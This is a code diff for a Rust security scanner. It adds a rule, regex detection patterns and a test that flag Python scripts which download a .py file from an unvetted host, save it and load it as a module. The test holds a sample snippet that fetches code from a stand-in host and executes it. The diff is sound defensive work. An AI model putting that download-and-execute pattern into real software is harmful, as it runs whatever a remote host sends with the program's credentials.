@@ -273,6 +273,7 @@ const WHOLE_FILE: &[WholeFile] = &[
     ),
     (&[Kind::Script], secrets_gathered_in_a_sending_script),
     (&[Kind::Script], downloaded_program_started),
+    (&[Kind::Script], downloaded_module_loaded),
     (&[Kind::Script], shell_on_a_socket),
     (&[Kind::Script], hook_pushes_elsewhere),
 ];
@@ -404,6 +405,66 @@ fn downloaded_program_started(text: &Text) -> Option<Finding> {
         "ship the program's source in the skill, or install it with a package manager",
     ))
 }
+
+/// A Python program that downloads a `.py` file from a host nobody vouches for, saves what it
+/// fetched and loads a module from a file (`spec_from_file_location` and `exec_module`, `runpy.run_path`):
+/// a plugin or "renderer pack" fetched at run time runs whatever that host sends inside the
+/// program, with its tokens. Reported where the module is loaded.
+fn downloaded_module_loaded(text: &Text) -> Option<Finding> {
+    if !MODULE_FROM_FILE.is_match(text.text) || !SAVES_TEXT.is_match(text.text) {
+        return None;
+    }
+    let kinds = origin(PYTHON_URL.find(text.text)?.as_str());
+    if kinds & (UNVETTED | INSECURE) == 0 {
+        return None;
+    }
+    let is_import =
+        |l: &str| l.trim_start().starts_with("import ") || l.trim_start().starts_with("from ");
+    let fetch = text
+        .text
+        .lines()
+        .position(|l| is_code_line(l) && !is_import(l) && line_sources(l) & FETCHED != 0)?;
+    let (start, line) = text
+        .each_line()
+        .find(|(_, l)| is_code_line(l) && MODULE_FROM_FILE.is_match(l))?;
+    let rule = if kinds & INSECURE != 0 {
+        &DOWNLOAD_EXEC_INSECURE
+    } else {
+        &REMOTE_CODE_IN_SCRIPT
+    };
+    Some(text.finding(
+        rule,
+        Span::new(start, start + line.len()),
+        format!(
+            "loads a module from a file in a script that downloads Python code (line {}) and \
+             saves it: `{}`",
+            fetch + 1,
+            excerpt(line)
+        ),
+        "code downloaded at run time and loaded as a module runs whatever that host sends, \
+         unread, inside the program and with its credentials",
+        "ship the module in the skill, or install it as a pinned package",
+    ))
+}
+
+/// Python's ways of loading a module from a file path.
+static MODULE_FROM_FILE: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(
+        r"spec_from_file_location\(|\.exec_module\(|runpy\.run_path\(|SourceFileLoader\(|(?-u:\b)load_source\(",
+    )
+    .expect("a valid module-loading pattern")
+});
+
+/// A file written with what a program holds (`path.write_bytes(r.read())`, `open(p, "wb")`).
+static SAVES_TEXT: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r#"\.write_(?:bytes|text)\(|(?-u:\b)open\([^)\n]*,[[:space:]]*['"]w"#)
+        .expect("a valid file-writing pattern")
+});
+
+/// The address of a Python file (`"https://cdn.x.example/renderers/latest.py"`).
+static PYTHON_URL: LazyLock<Pattern> = LazyLock::new(|| {
+    Pattern::new(r#"(?i)https?://[^[:space:]'"]+\.py['"]"#).expect("a valid Python address pattern")
+});
 
 /// A file mode or call that makes a file executable, in any language.
 static EXECUTABLE_MODE: LazyLock<Pattern> = LazyLock::new(|| {
@@ -1650,6 +1711,9 @@ pub(super) fn compile() {
         &IPV4,
         &EXECUTABLE_MODE,
         &SPAWN,
+        &MODULE_FROM_FILE,
+        &SAVES_TEXT,
+        &PYTHON_URL,
         &SHELL_PROGRAM,
     ] {
         LazyLock::force(pattern);
@@ -1663,6 +1727,15 @@ mod tests {
 
     fn codes(path: &str, text: &str) -> Vec<&'static str> {
         super::super::codes_of(path, text, &[check_flow])
+    }
+
+    #[test]
+    fn a_downloaded_python_module_loaded_at_run_time_is_remote_code() {
+        let plugin = "import importlib.util, urllib.request\nPACK = \"https://cdn.x.example/r/latest.py\"\n\ndef refresh(target):\n    with urllib.request.urlopen(PACK) as r:\n        target.write_bytes(r.read())\n    return target\n\ndef load(path):\n    spec = importlib.util.spec_from_file_location(\"r\", refresh(path))\n    mod = importlib.util.module_from_spec(spec)\n    spec.loader.exec_module(mod)\n";
+        assert_eq!(codes("scripts/sync.py", plugin), ["SK920"]);
+        // Data fetched and saved beside a module loaded from the skill's own folder.
+        let local = "import importlib.util, json, urllib.request\nwith urllib.request.urlopen(\"https://api.x.example/v1/items\") as r:\n    (OUT / \"items.json\").write_text(r.read().decode())\nspec = importlib.util.spec_from_file_location(\"fmt\", HERE / \"fmt.py\")\nspec.loader.exec_module(importlib.util.module_from_spec(spec))\n";
+        assert!(codes("scripts/sync.py", local).is_empty());
     }
 
     #[test]
